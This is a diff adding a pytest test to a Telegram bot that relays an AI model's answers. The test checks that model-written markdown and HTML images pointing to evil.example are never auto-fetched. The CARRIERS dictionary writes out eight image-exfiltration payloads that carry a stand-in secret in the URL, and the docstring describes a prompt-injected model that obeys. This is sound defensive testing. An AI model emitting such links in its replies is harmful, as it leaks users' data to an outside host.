@@ -278,3 +278,36 @@ def _texts(value: Any) -> list[str]:
         return [value]
     parts = value.values() if isinstance(value, dict) else value if isinstance(value, list) else ()
     return [text for part in parts for text in _texts(part)]
+
+
+EVIL = "https://evil.example/?d=penicillin"
+CARRIERS = {
+    "inline": f"Look: ![plan]({EVIL}) and [the report]({EVIL})",
+    "reference": f"Look: ![plan][p] and [the report][p]\n\n[p]: {EVIL}",
+    "in a link": f"[![plan]({EVIL})](https://good.example/a) [the report]({EVIL})",
+    "table": f"| a | b |\n|---|---|\n| ![plan]({EVIL}) | [the report]({EVIL}) |",
+    "list": f"- ![plan]({EVIL})\n  1. > [the report]({EVIL})",
+    "HTML": f'<img src="{EVIL}"> \\\\<video src="{EVIL}"></video> [the report]({EVIL})',
+    "after code": f'x `a\nb` <img src="{EVIL}"> `c` [the report]({EVIL})',
+    "no fence": f'text\n\n      ```\n\n<img src="{EVIL}">\n\n[the report]({EVIL})',
+}
+
+
+@pytest.mark.parametrize("lacks", [(), ("sendRichMessage", "sendRichMessageDraft")])
+async def test_no_answer_and_no_draft_has_telegram_fetch_an_address(
+    lacks: tuple[str, ...], telegram: FakeTelegram, claude: FakeClaude, tmp_path: Path
+) -> None:
+    """The model obeys, and sends what it knows as the address of an image, which needs no tap."""
+    if lacks:
+        telegram.lacks(*lacks)
+    claude.chunk_delay = 0.03
+    async with sam(telegram, claude, tmp_path):
+        for name, answer in CARRIERS.items():
+            claude.says(answer, when=f"Show me: {name}")
+            before = len(telegram.sent)
+            await telegram.receives(f"Show me: {name}")
+            await telegram.wait_for(lambda t, before=before: len(t.sent) > before)
+            said = telegram.sent[-1]
+            assert telegram.store.fetched == [], name
+            assert "(evil.example)" in said.text, f"{name}: a link does not say where it leads"
+        assert telegram.drafts, "no draft was shown"
